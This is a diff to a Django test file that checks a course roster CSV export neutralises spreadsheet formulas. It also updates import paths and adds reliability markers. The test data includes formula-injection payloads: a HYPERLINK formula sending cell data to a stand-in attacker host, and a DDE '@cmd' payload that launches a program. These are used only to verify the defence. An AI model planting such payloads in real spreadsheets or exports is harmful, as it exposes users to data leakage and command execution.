@@ -1,14 +1,16 @@
-"""The CSV export: choices, circles and plan status, with spreadsheet formulas neutralised (RELIABILITY row 22)."""
+"""The CSV export: choices, circles and plan status, with spreadsheet formulas neutralised (docs/reliability.md row 22)."""
 import csv
 import io
 
+import pytest
 from django.urls import reverse
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from courseproj import services
-from courseproj.exports import FORMULA_STARTS, neutralise, to_csv
-from courseproj.models import PlanStatus, RosterEntry
+from courseproj.courses import services
+from courseproj.courses.exports import FORMULA_STARTS, neutralise, to_csv
+from courseproj.courses.models import RosterEntry
+from courseproj.planner.models import PlanStatus
 from tests import factories
 
 
@@ -28,6 +30,7 @@ def read(text: str) -> list[list[str]]:
 @example("\r=1")
 @example("\x00=1")
 @example("'=already quoted")
+@pytest.mark.reliability(22)
 def test_a_cell_never_starts_a_formula_and_only_gains_an_apostrophe(value):
     cell = neutralise(value)
     assert not cell.startswith(FORMULA_STARTS)
@@ -71,6 +74,7 @@ def test_export_has_choices_circles_plan_status_and_picks(client_for, course, in
     assert by_name["Cleo Classmate"][7:] == ["Draft", "", "yes"]
 
 
+@pytest.mark.reliability(22)
 def test_imported_formula_names_stay_verbatim_in_the_db_and_are_neutralised_in_the_export(client_for, course, instructor):
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     roster = f'email,name\nlate@example.com,"{evil.replace(chr(34), chr(34) * 2)}"\nplus@example.com,+31 6 1234\n'
@@ -83,12 +87,14 @@ def test_imported_formula_names_stay_verbatim_in_the_db_and_are_neutralised_in_t
     assert names["plus@example.com"] == "'+31 6 1234"
 
 
+@pytest.mark.reliability(22)
 def test_a_student_named_like_a_formula_is_neutralised(client_for, course, instructor):
     factories.MembershipFactory(course=course, user__name="@cmd|' /C calc'!A0")
     rows = export(client_for(instructor), course)
     assert rows[1][0] == "'@cmd|' /C calc'!A0"
 
 
+@pytest.mark.reliability(30)
 def test_students_and_outsiders_cannot_export(client_for, course, student, outsider):
     assert client_for(student).get(reverse("dashboard_export", args=[course.pk])).status_code == 403
     assert client_for(outsider).get(reverse("dashboard_export", args=[course.pk])).status_code == 404
